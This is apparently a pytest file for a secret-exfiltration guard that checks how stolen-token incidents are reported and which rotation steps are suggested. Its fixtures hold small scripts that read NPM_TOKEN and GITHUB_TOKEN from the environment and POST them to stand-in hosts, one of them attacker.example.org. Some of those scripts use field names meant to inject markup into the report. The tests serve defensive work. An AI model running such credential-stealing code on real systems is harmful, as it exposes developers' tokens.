"""What a person is told when a secret was on its way out: which, of what kind, where exactly, what else was in reach, what now."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ebbgate.events.codec import from_json
from ebbgate.report.interface import build_report
from ebbgate.report.markdown import to_markdown
from tests.attacks.test_exfiltration import assert_unwritten
from tests.secrets.samples import sample
from tests.world import World
from tests.world.internet import EVIL

THEFT = """
import json, os, urllib.request
body = json.dumps({"items": [{"stolen": os.environ["NPM_TOKEN"]}], "also": os.environ["GITHUB_TOKEN"]}).encode()
request = urllib.request.Request("https://api.example.com/collect", body, {"Content-Type": "application/json"})
try:
    urllib.request.urlopen(request)
except OSError as problem:
    print(problem)
"""


def steal(world: World, *options: str) -> tuple[object, dict[str, str]]:
    values = {
        "NPM_TOKEN": sample("npm-token"),
        "GITHUB_TOKEN": sample("github-actions-token"),
        "STRIPE_API_KEY": sample("stripe-secret"),
    }
    file = Path(world.directory) / "theft.py"
    file.write_text(THEFT)
    command = ["python3", str(file)]
    return world.guard.run(["--allow", "api.example.com", "--on-exfiltration", "fail", *options], command, env=values), values


def flat(text: str) -> str:
    """Without the line breaks of a narrow terminal."""
    return " ".join(text.split())


def test_what_was_stopped(world: World) -> None:
    outcome, values = steal(world)
    assert outcome.code == 91, outcome.stderr
    told = flat(outcome.stderr)
    assert "kind NPM_TOKEN: npm automation/granular token; GITHUB_TOKEN: GITHUB_TOKEN / GitHub App installation token" in told
    assert "where body (json:items.stolen), at byte 23, written as raw; body (json:also)" in told
    assert "in reach of the same process: STRIPE_API_KEY" in told
    assert "the value did not; 0 B of the request did" in told
    assert "in: [json:items.stolen]" in told
    assert "Secrets to rotate, in this order of steps NPM_TOKEN (npm automation/granular token): unless it was meant" in told
    assert told.index("isolate before you revoke") < told.index("revoke NPM_TOKEN: https://www.npmjs.com/settings/~/tokens")
    (npm, github) = outcome.report["rotations"]
    assert (npm["secret"], npm["kind"], npm["left"]) == ("NPM_TOKEN", "npm-token", False)
    assert github["page"].startswith("https://docs.github.com/")
    leak = next(one for one in outcome.incidents if one["secret"] == "NPM_TOKEN")
    assert (leak["field"], leak["offset"], leak["credential"], leak["place"]) == ("json:items.stolen", 23, "npm-token", "body")
    assert leak["visible"] == ["GITHUB_TOKEN", "STRIPE_API_KEY"]
    for value in values.values():
        assert_unwritten(value, outcome.everything_written())


def test_what_left_comes_first(world: World) -> None:
    outcome, values = steal(world, "--mode", "audit")
    assert outcome.code == 0
    told = flat(outcome.stderr)
    assert "THE VALUE LEFT" in told
    assert "NPM_TOKEN (npm automation/granular token): it left" in told
    assert all(one["left"] for one in outcome.report["rotations"])
    assert values["STRIPE_API_KEY"].encode() not in outcome.everything_written()


def test_the_summary_says_the_same(world: World) -> None:
    outcome, _values = steal(world)
    summary = to_markdown(build_report([from_json(event) for event in outcome.events], outcome.code))
    assert "#### Secrets to rotate" in summary
    assert "- [ ] `isolate before you revoke" in summary
    assert "https://www.npmjs.com/settings/~/tokens" in summary
    assert "json:items.stolen" in summary
    assert "in reach: `of the same process: STRIPE_API_KEY`" in summary


@pytest.mark.parametrize("name", ["a] b: {evil}", "x\n- [ ] y", "`|", "ü" * 500])
def test_a_field_named_by_the_thief_is_shown_and_not_obeyed(world: World, name: str) -> None:
    value = sample("npm-token")
    script = f"""
import json, os, urllib.request
request = urllib.request.Request("https://attacker.example.org/", json.dumps({{{name!r}: os.environ["NPM_TOKEN"]}}).encode(), {{"Content-Type": "application/json"}})
try: urllib.request.urlopen(request)
except OSError as problem: print(problem)
"""
    outcome = world.guard.run(["--on-exfiltration", "fail"], ["python3", "-c", script], env={"NPM_TOKEN": value})
    assert outcome.code == 91, outcome.stderr
    (leak,) = [one for one in outcome.incidents if one["kind"] == "exfiltration"]
    assert leak["field"].startswith("json:")
    assert "\n" not in leak["field"]
    assert "in: [body]" in flat(outcome.stderr), "only a plain name is suggested for a policy"
    assert world.received(EVIL).strip() == b""
    assert json.dumps(outcome.report)
